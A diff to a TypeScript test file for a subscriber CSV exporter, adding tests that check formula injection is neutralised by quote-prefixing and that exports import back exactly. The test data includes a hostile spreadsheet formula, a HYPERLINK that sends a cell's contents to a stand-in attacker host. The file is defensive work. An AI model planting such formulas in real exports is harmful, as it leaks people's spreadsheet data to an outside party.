@@ -1,6 +1,6 @@
 /** parseSubscriberCsv and formatSubscriberCsv: CSV as spreadsheets and people write it, and hostile text. */
 import { describe, expect, it } from 'vitest';
-import { formatSubscriberCsv, parseSubscriberCsv } from '../../src/digest/subscriber-csv.ts';
+import { csvField, formatSubscriberCsv, parseSubscriberCsv } from '../../src/digest/subscriber-csv.ts';
 import { mulberry32 } from '../helpers/prng.ts';
 
 const rows = (text: string) => parseSubscriberCsv(text).subscribers.map(({ line, address, name }) => [line, address, name]);
@@ -97,5 +97,42 @@ describe('formatSubscriberCsv', () => {
       { address: 'b@example.org', name: null },
       { address: 'c@example.org', name: 'padded' },
     ]);
+  });
+});
+
+describe('formula injection (OWASP CSV injection)', () => {
+  it.each([
+    ['=HYPERLINK("http://evil.example/?x="&A1;"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"`],
+    ['+1+2', "'+1+2"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(1)', "'@SUM(1)"],
+    ['\t=1', "'\t=1"],
+    ['\r=1', `"'\r=1"`],
+    ["'=1", "''=1"],
+    ["''+1", "'''+1"],
+    ["'quoted'", "'quoted'"],
+    ['plain', 'plain'],
+    ['a=b', 'a=b'],
+  ])('writes %j as %s, a cell a spreadsheet shows as text', (value, written) => {
+    expect(csvField(value)).toBe(written);
+  });
+
+  it('an export imports back exactly: import takes off the one quote export put on', () => {
+    const subscribers = [
+      { address: '=1+2@example.org', name: '=HYPERLINK("http://evil.example/?x="&A1;"click")' },
+      { address: '-dash@example.org', name: '+1+2' },
+      { address: 'a@example.org', name: '@SUM(1)' },
+      { address: 'b@example.org', name: "'=already quoted" },
+      { address: 'c@example.org', name: "''-two quotes" },
+      { address: 'd@example.org', name: "'just a quote'" },
+      { address: 'e@example.org', name: '-' },
+    ];
+    const csv = formatSubscriberCsv(subscribers);
+    expect(csv.split('\r\n').slice(1, 3)).toEqual([
+      `'=1+2@example.org,"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"`,
+      "'-dash@example.org,'+1+2",
+    ]);
+    expect(parseSubscriberCsv(csv).subscribers.map(({ address, name }) => ({ address, name }))).toEqual(subscribers);
+    expect(parseSubscriberCsv(csv).problems).toEqual([]);
   });
 });
